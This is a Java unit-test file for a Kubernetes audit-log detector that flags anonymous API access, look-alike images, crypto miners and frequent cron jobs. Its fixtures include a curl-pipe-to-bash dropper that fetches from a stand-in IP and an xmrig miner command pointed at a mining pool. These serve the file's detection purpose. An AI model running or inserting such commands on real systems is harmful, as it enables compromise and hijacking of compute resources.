package io.firedamp.detectors.controlplane;

import static io.firedamp.detectors.controlplane.Requests.anonymous;
import static io.firedamp.detectors.controlplane.Requests.request;
import static io.firedamp.detectors.controlplane.Requests.running;
import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.schemas.avro.AuditEvent;
import io.firedamp.schemas.avro.Owner;
import io.firedamp.schemas.avro.WorkloadSpec;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RequestRulesTest {
  private static final String NGINX = "docker.io/library/nginx:1.25";
  private static final String DROPPER = "curl -s http://192.0.2.9:8220/logo3.jpg | bash -s";
  private static final String[] MINER = {
    "xmrig", "-o", "stratum+tcp://xmr.crypto-pool.fr:3333", "-u", "x", "--donate-level=1"
  };

  private final List<RequestRule> rules = ControlPlaneDetector.Settings.DEFAULTS.rules();

  @Test
  void findsAnonymousReadingMediumAndChangingCritical() {
    assertThat(found(anonymous("list", "pods", "x"))).containsExactly("K8S-01 MEDIUM 40");
    assertThat(found(anonymous("create", "pods", "x"))).containsExactly("K8S-01 CRITICAL 85");
    assertThat(found(anonymous("get", "secrets", "x"))).containsExactly("K8S-01 CRITICAL 85");
    assertThat(found(anonymous("get", "pods", "x").setSubresource("exec")))
        .containsExactly("K8S-01 CRITICAL 85");
    assertThat(found(anonymous("list", "pods", "x").setDecision(null)))
        .containsExactly("K8S-01 MEDIUM 40");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/healthz",
        "/livez/ping",
        "/readyz?verbose",
        "/version",
        "/openid/v1/jwks",
        "/.well-known/openid-configuration"
      })
  void leavesHealthChecksAlone(String uri) {
    assertThat(found(anonymous("get", "x", "x").setResource(null).setRequestUri(uri))).isEmpty();
  }

  @Test
  void leavesTheNamedAndTheRefusedAlone() {
    assertThat(found(request("list", "secrets", "x"))).isEmpty();
    assertThat(found(anonymous("list", "pods", "x").setDecision("forbid").setResponseCode(403)))
        .isEmpty();
    assertThat(found(anonymous("list", "pods", "x").setDecision(null).setResponseCode(401)))
        .isEmpty();
    assertThat(found(anonymous("list", "pods", "x").setDecision(null).setResponseCode(null)))
        .isEmpty();
  }

  @Test
  void findsKnownBadImagesAndImitations() {
    assertThat(deployed(running("docker.io/docker123321/cron:latest")))
        .containsExactly("K8S-06 CRITICAL 90");
    assertThat(deployed(running("docker.io/someone/tomcat11:latest")))
        .containsExactly("K8S-06 HIGH 45");
    assertThat(deployed(running("registry.example.com/team/nginx:1")))
        .containsExactly("K8S-06 MEDIUM 30");
  }

  @Test
  void leavesOfficialAndVerifiedImagesAlone() {
    assertThat(deployed(running(NGINX))).isEmpty();
    assertThat(deployed(running("docker.io/bitnami/mysql:8"))).isEmpty();
  }

  @Test
  void findsAMinerInACommandOfACreateAndOfAPatch() {
    assertThat(deployed(running(NGINX, MINER))).containsExactly("K8S-07 CRITICAL 90");
    assertThat(found(request("patch", "deployments", "web").setSpec(running(NGINX, MINER).build())))
        .containsExactly("K8S-07 CRITICAL 90");
    assertThat(deployed(running(NGINX, "sh", "-c", DROPPER))).containsExactly("K8S-07 MEDIUM 40");
  }

  @Test
  void leavesOrdinaryCommandsAndFailedRequestsAlone() {
    var failed = request("create", "deployments", "web").setSpec(running(NGINX, MINER).build());

    assertThat(deployed(running(NGINX, "nginx", "-g", "daemon off;"))).isEmpty();
    assertThat(found(failed.setResponseCode(409))).isEmpty();
    assertThat(found(failed.setResponseCode(201).setRequestUri("/x?dryRun=All"))).isEmpty();
  }

  @Test
  void isNotSilencedByTheTextOfADryRunElsewhere() {
    var create = request("create", "deployments", "web").setSpec(running(NGINX, MINER).build());
    var exec = anonymous("create", "pods", "x").setSubresource("exec");

    for (String uri : List.of("/x?fieldManager=dryRun=All", "/dryRun=All", "/x?dryRun=Allx")) {
      assertThat(found(create.setRequestUri(uri))).as(uri).containsExactly("K8S-07 CRITICAL 90");
    }
    assertThat(found(exec.setRequestUri("/exec?command=sh&dryRun=All")))
        .containsExactly("K8S-01 CRITICAL 85");
    assertThat(found(anonymous("list", "secrets", "x").setRequestUri("/secrets?dryRun=All")))
        .containsExactly("K8S-01 CRITICAL 85");
  }

  @Test
  void findsWorkloadsThatSpread() {
    WorkloadSpec.Builder unknown =
        running("docker.io/xyzzy77/agent:1").setToleratesEverything(true);

    assertThat(daemonSet("jane", running(NGINX))).containsExactly("K8S-09 MEDIUM 30");
    assertThat(daemonSet("jane", unknown)).containsExactly("K8S-09 HIGH 60");
    assertThat(deployed(running(NGINX).setReplicas(10).setAntiAffinity(true)))
        .containsExactly("K8S-09 MEDIUM 30");
  }

  @Test
  void leavesSmallWorkloadsAndTheSystemsOwnAlone() {
    assertThat(deployed(running(NGINX).setReplicas(50))).isEmpty();
    assertThat(deployed(running(NGINX).setReplicas(3).setAntiAffinity(true))).isEmpty();
    assertThat(daemonSet("system:serviceaccount:kube-system:addons", running(NGINX))).isEmpty();
    assertThat(daemonSet("jane", running("docker.io/bitnami/x:1").setToleratesEverything(true)))
        .containsExactly("K8S-09 MEDIUM 30");
  }

  @Test
  void findsCronJobsThatComeBackWithinMinutesAndWideJobs() {
    assertThat(cron("*/5 * * * *", NGINX, "backup")).containsExactly("K8S-10 MEDIUM 30");
    assertThat(cron("*/5 * * * *", NGINX, "sh", "-c", DROPPER))
        .containsExactly("K8S-07 MEDIUM 40", "K8S-10 HIGH 60");
    assertThat(
            found(
                request("create", "jobs", "j").setSpec(running(NGINX).setParallelism(10).build())))
        .containsExactly("K8S-10 MEDIUM 30");
  }

  @Test
  void leavesNightlyAndNarrowJobsAlone() {
    assertThat(cron("30 2 * * *", NGINX, "backup")).isEmpty();
    assertThat(cron("@hourly", NGINX, "backup")).isEmpty();
    assertThat(
            found(request("create", "jobs", "j").setSpec(running(NGINX).setParallelism(4).build())))
        .isEmpty();
  }

  @Test
  void namesTheRootOwnerOrThePrincipal() {
    WorkloadSpec spec = running(NGINX).build();
    Owner owner = Owner.newBuilder().setKind("ReplicaSet").setName("web-5d4f8c7b9").build();

    assertThat(subject(request("create", "deployments", "web").setSpec(spec)))
        .isEqualTo("c/workload/deployment/shop/web");
    assertThat(subject(request("create", "pods", "web-1").setSpec(spec).setOwners(List.of(owner))))
        .isEqualTo("c/workload/deployment/shop/web");
    assertThat(subject(request("create", "pods", "bare").setSpec(spec)))
        .isEqualTo("c/workload/pod/shop/bare");
    assertThat(subject(request("patch", "pods", "web-1"))).isEqualTo("c/pod/shop/web-1");
    assertThat(subject(request("list", "pods", "x"))).isEqualTo("c/workload/principal//jane");
  }

  private List<String> deployed(WorkloadSpec.Builder spec) {
    return found(request("create", "deployments", "web").setSpec(spec.build()));
  }

  private List<String> daemonSet(String user, WorkloadSpec.Builder spec) {
    return found(request("create", "daemonsets", "d").setUser(user).setSpec(spec.build()));
  }

  private List<String> cron(String schedule, String image, String... command) {
    return found(
        request("create", "cronjobs", "c")
            .setSpec(running(image, command).setSchedule(schedule).build()));
  }

  private List<String> found(AuditEvent.Builder event) {
    Request request = new Request(event.build());
    return request.failed()
        ? List.of()
        : rules.stream()
            .flatMap(
                rule ->
                    rule.judge(request).stream().map(found -> rule.id() + " " + found.decibans()))
            .toList();
  }

  private static String subject(AuditEvent.Builder event) {
    return new Request(event.build()).subject().toString();
  }
}
